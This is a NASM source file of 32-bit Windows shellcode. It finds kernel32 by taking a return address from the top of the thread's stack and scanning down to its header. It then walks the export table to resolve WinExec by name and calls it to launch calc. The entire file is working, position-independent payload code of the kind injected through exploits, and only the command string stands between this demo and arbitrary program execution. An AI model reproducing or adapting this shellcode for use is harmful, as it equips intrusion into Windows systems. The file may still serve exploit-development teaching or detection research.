; Windows, 32 bit: finds kernel32 through the top of the stack (TEB + 4), where the thread's start lies, and walks down to
; its header; calls the function that it finds by the letters of its name.
bits 32
        xor esi, esi
        mov esi, [fs:esi + 4]
        mov esi, [esi - 0x1c]
down:   dec esi
        xor si, si
        cmp word [esi], 'MZ'
        jne down
        mov ebx, esi
        mov eax, [ebx + 0x3c]
        mov edx, [ebx + eax + 0x78]
        add edx, ebx
        mov edi, [edx + 0x20]
        add edi, ebx
        xor ecx, ecx
next:   mov eax, [edi + ecx * 4]
        inc ecx
        cmp dword [ebx + eax], 'WinE'
        jne next
        dec ecx
        mov edi, [edx + 0x24]
        add edi, ebx
        movzx ecx, word [edi + ecx * 2]
        mov edi, [edx + 0x1c]
        add edi, ebx
        mov eax, [edi + ecx * 4]
        add eax, ebx
        push byte 0
        push dword 'calc'
        mov ecx, esp
        push byte 1
        push ecx
        call eax
        jmp short $
